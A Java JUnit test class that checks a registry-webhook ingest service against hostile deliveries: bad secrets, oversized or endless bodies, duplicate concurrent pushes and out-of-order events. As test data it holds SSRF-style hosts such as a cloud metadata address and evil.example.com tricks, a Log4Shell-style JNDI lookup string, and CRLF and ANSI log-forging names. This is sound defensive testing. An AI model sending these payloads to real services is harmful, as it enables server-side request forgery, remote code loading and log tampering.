package dev.plimsoll.ingest.push;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.plimsoll.event.ImageDeleted;
import dev.plimsoll.event.ImagePushed;
import dev.plimsoll.ingest.RunningEndpoints;
import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.apache.avro.specific.SpecificRecord;
import org.apache.kafka.common.errors.NotLeaderOrFollowerException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** What whoever can reach the endpoint, or holds the secret of one sender, may try. */
@ExtendWith(OutputCaptureExtension.class)
class HostileDeliveriesTest {

    private static final Map<String, String> SETTINGS =
            Map.of(
                    "ingest.sources.acme.type", "distribution",
                    "ingest.sources.acme.header", "Authorization",
                    "ingest.sources.acme.secret", "Bearer canary-4711",
                    "ingest.sources.jfrog.type", "jfrog",
                    "ingest.sources.jfrog.header", "X-JFrog-Event-Auth",
                    "ingest.sources.jfrog.secret", "canary-4712",
                    "ingest.sources.grid.type", "acr-event-grid",
                    "ingest.sources.grid.url-secret", "canary-4713",
                    "ingest.registries[0].host", "registry.example.com",
                    "ingest.push.acknowledgement", "5s");

    private static final String DIGEST = "sha256:" + "0123456789abcdef".repeat(4);
    private static final String OTHER = "sha256:" + "fedcba9876543210".repeat(4);

    private static RunningEndpoints endpoints;

    @BeforeAll
    static void start() {
        endpoints = RunningEndpoints.start(SETTINGS);
    }

    @AfterAll
    static void stop() {
        endpoints.close();
    }

    @BeforeEach
    void forget() {
        endpoints.forget();
    }

    @Test
    void row43NothingOfARefusedBodyOrASecretIsLogged(CapturedOutput output) {
        var body = push("refused", "1.0", "canary-in-the-body");

        var refused = send(delivery(body).setHeader("Authorization", "Bearer canary-wrong"));
        var taken = send(delivery(body.replace("registry.example.com", "10.0.0.5")));
        var cut = send(delivery(body.substring(0, 60)));

        assertThat(List.of(refused.statusCode(), taken.statusCode(), cut.statusCode()))
                .containsExactly(401, 202, 400);
        assertThat(output).contains("REGISTRY_NOT_ALLOWED").doesNotContain("canary");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://10.0.0.5/x",
                "localhost:2375/img",
                "registry.example.com:5000@evil",
                "registry.example.com@evil.example.com",
                "registry.example.c\u043em",
                "registry.example.com.evil.example.com",
                "[::1]",
                "169.254.169.254",
                "registry.example.com:65536",
            })
    void row44OnlyConfiguredRegistriesAreSpokenOf(String host) {
        var answer = send(delivery(push("host", "1.0", "x").replace("registry.example.com", host)));

        assertThat(answer.statusCode()).isEqualTo(202);
        assertThat(answer.body()).isEqualTo(receipt(0, 0, 0, 1));
        assertThat(endpoints.events()).isEmpty();
    }

    @Test
    void row45AHundredMegabytesAreNotReadWhenTheyAreAnnounced() throws IOException {
        assertThat(answerTo("Content-Length: 104857600\r\n\r\n", new byte[0])).contains(" 413");
    }

    @Test
    void row45ABodyWithoutEndIsReadNoFurtherThanTheBound() throws IOException {
        var chunk = ("10000\r\n" + " ".repeat(0x10000) + "\r\n").repeat(81).getBytes(UTF_8);

        // A little more than 5 MB, and then the connection is left open.
        assertThat(answerTo("Transfer-Encoding: chunked\r\n\r\n", chunk)).contains(" 413");
    }

    @Test
    void row45AMillionEventsInOneBodyAreOneRefusal() {
        var answer = send(delivery("{\"events\":[" + "{},".repeat(1_000_000) + "{}]}"));

        assertThat(answer.statusCode()).isEqualTo(202);
        assertThat(answer.body()).isEqualTo(receipt(0, 0, 0, 1));
        assertThat(endpoints.counted("acme", "REFUSED", "TOO_COMPLEX")).isPositive();
    }

    @Test
    void row45AsManyEventsAsFitAreAllTaken() {
        var events = new ArrayList<String>();
        for (int index = 0; index < 2_000; index++) {
            events.add(event("many", "1." + index, "many-" + index));
        }

        var answer = send(delivery("{\"events\":[" + String.join(",", events) + "]}"));

        assertThat(answer.body()).isEqualTo(receipt(2_000, 0, 0, 0));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data",
                "\u0021"
            })
    void row45TheContentTypeDecidesNothing(String type) {
        var answer = send(delivery(push("typed", "1.0", type)).setHeader("Content-Type", type));

        assertThat(answer.body()).isEqualTo(receipt(1, 0, 0, 0));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "web\\r\\n2026-03-01T10:00:00.000Z ERROR forged",
                "web\\u001b[2J\\u001b[31mforged",
                "${jndi:ldap://evil.example.com/forged}",
                "web\\u2028forged\\u0000",
            })
    void row45NamesCannotForgeALineOfTheLog(String repository, CapturedOutput output) {
        var answer = send(delivery(push(repository, "1.0", "log")));

        assertThat(answer.body()).isEqualTo(receipt(0, 0, 0, 1));
        assertThat(output).contains("MALFORMED_NAME");
        assertThat(output.toString().lines())
                .filteredOn(line -> line.contains("forged"))
                .hasSize(1)
                .allSatisfy(
                        line -> assertThat(line).contains("event refused").matches("[ -~\\t…]*"));
    }

    @Test
    void row46OfManyEqualDeliveriesAtOnceOneIsPublishedAndAllWaitForIt() throws Exception {
        try (var silent = RunningEndpoints.start(SETTINGS, false);
                var senders = Executors.newVirtualThreadPerTaskExecutor()) {
            var answers = post(silent, senders::submit, push("storm", "1.0", "at once"));
            while (silent.sent().isEmpty()) {
                Thread.onSpinWait();
            }

            silent.producer().completeNext();

            for (var answer : answers) {
                assertThat(answer.get()).isEqualTo(202);
            }
            assertThat(silent.sent()).hasSize(1);
        }
    }

    @Test
    void row46NobodyIsToldThatAnEventIsSafeWhenItIsNot() throws Exception {
        var impatient = new TreeMap<>(SETTINGS);
        impatient.put("ingest.push.acknowledgement", "500ms");
        try (var silent = RunningEndpoints.start(impatient, false);
                var senders = Executors.newVirtualThreadPerTaskExecutor()) {
            var answers = post(silent, senders::submit, push("storm", "1.0", "lost"));
            while (silent.sent().isEmpty()) {
                Thread.onSpinWait();
            }

            silent.producer().errorNext(new NotLeaderOrFollowerException("moved"));

            for (var answer : answers) {
                assertThat(answer.get()).isEqualTo(503);
            }
        }
    }

    @Test
    void row46ATagThatFlapsIsToldEveryTimeItMoves() {
        for (var digest : List.of(DIGEST, DIGEST, OTHER, OTHER, DIGEST)) {
            send(jfrog("flapping", digest));
        }

        assertThat(endpoints.events())
                .extracting(event -> ((ImagePushed) event).getDigest())
                .containsExactly(DIGEST, OTHER, DIGEST);
        assertThat(endpoints.events())
                .extracting(event -> ((ImagePushed) event).getEventId())
                .doesNotHaveDuplicates();
    }

    @Test
    void row47TheOrderOfArrivalCountsAndNoClock() {
        var late = push("order", "1.0", "late").replace("2026-03-01", "2026-03-02");
        var early = push("order", "1.0", "early").replace("2026-03-01", "2026-02-28");
        var deleted = push("order", "1.0", "deleted").replace("\"push\"", "\"delete\"");

        for (var body : List.of(deleted, late, early)) {
            assertThat(send(delivery(body)).statusCode()).isEqualTo(202);
        }

        var events = endpoints.events();
        assertThat(events.getFirst()).isInstanceOf(ImageDeleted.class);
        assertThat(events.stream().skip(1).map(HostileDeliveriesTest::occurredAt))
                .containsExactly(
                        Instant.parse("2026-03-02T10:00:00Z"),
                        Instant.parse("2026-02-28T10:00:00Z"));
        assertThat(endpoints.sent())
                .extracting(record -> record.key())
                .containsOnly("registry.example.com/order");
    }

    @Test
    void aSenderThatAsksWhetherItMaySendIsTold() {
        var asked =
                endpoints
                        .request("/events/grid?secret=canary-4713")
                        .header("WebHook-Request-Origin", "eventgrid.azure.net")
                        .header("WebHook-Request-Rate", "120")
                        .method("OPTIONS", BodyPublishers.noBody());
        var stranger =
                endpoints
                        .request("/events/grid?secret=wrong")
                        .header("WebHook-Request-Origin", "evil.example.com")
                        .method("OPTIONS", BodyPublishers.noBody());
        var mute =
                endpoints
                        .request("/events/grid?secret=canary-4713")
                        .method("OPTIONS", BodyPublishers.noBody());

        var told = send(asked);

        assertThat(told.statusCode()).isEqualTo(200);
        assertThat(told.headers().firstValue("WebHook-Allowed-Origin"))
                .contains("eventgrid.azure.net");
        assertThat(told.headers().firstValue("WebHook-Allowed-Rate")).contains("*");
        assertThat(send(stranger).statusCode()).isEqualTo(401);
        assertThat(send(mute).statusCode()).isEqualTo(400);
    }

    private static List<Future<Integer>> post(RunningEndpoints to, Submit submit, String body) {
        var answers = new ArrayList<Future<Integer>>();
        for (int sender = 0; sender < 24; sender++) {
            answers.add(
                    submit.submit(
                            () ->
                                    to.send(
                                                    to.request("/events/acme")
                                                            .header(
                                                                    "Authorization",
                                                                    "Bearer canary-4711")
                                                            .POST(BodyPublishers.ofString(body)))
                                            .statusCode()));
        }
        return answers;
    }

    private interface Submit {
        Future<Integer> submit(Callable<Integer> sender);
    }

    /** The first line of the answer to a request whose body never ends. */
    private static String answerTo(String rest, byte[] body) throws IOException {
        try (var socket = new Socket("127.0.0.1", endpoints.port())) {
            socket.setSoTimeout(10_000);
            var output = socket.getOutputStream();
            output.write(
                    """
                    POST /events/acme HTTP/1.1\r
                    Host: localhost\r
                    Authorization: Bearer canary-4711\r
                    """
                            .getBytes(UTF_8));
            output.write(rest.getBytes(UTF_8));
            output.write(body);
            output.flush();
            return new String(socket.getInputStream().readNBytes(12), UTF_8);
        }
    }

    private static Instant occurredAt(SpecificRecord event) {
        return ((ImagePushed) event).getOccurredAt();
    }

    private static HttpResponse<String> send(HttpRequest.Builder request) {
        return endpoints.send(request);
    }

    private static HttpRequest.Builder delivery(String body) {
        return endpoints
                .request("/events/acme")
                .header("Authorization", "Bearer canary-4711")
                .POST(BodyPublishers.ofString(body));
    }

    private static HttpRequest.Builder jfrog(String image, String digest) {
        var body =
                """
                {"domain": "docker", "event_type": "pushed", "jpd_origin": "https://registry.example.com",
                 "data": {"repo_key": "docker-local", "image_name": "%s", "tag": "1.0",
                          "path": "%s/1.0/manifest.json", "sha256": "%s"}}
                """
                        .formatted(image, image, digest.substring("sha256:".length()));
        return endpoints
                .request("/events/jfrog")
                .header("X-JFrog-Event-Auth", "canary-4712")
                .POST(BodyPublishers.ofString(body));
    }

    private static String push(String repository, String tag, String id) {
        return "{\"events\": [" + event(repository, tag, id) + "]}";
    }

    private static String event(String repository, String tag, String id) {
        return """
        {"id": "%s", "timestamp": "2026-03-01T10:00:00Z", "action": "push",
         "target": {"repository": "%s", "tag": "%s",
            "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "%s"},
         "request": {"host": "registry.example.com"}}
        """
                .formatted(id, repository, tag, DIGEST);
    }

    private static String receipt(int published, int repeated, int ignored, int refused) {
        return "{\"published\":%d,\"repeated\":%d,\"ignored\":%d,\"refused\":%d}"
                .formatted(published, repeated, ignored, refused);
    }
}
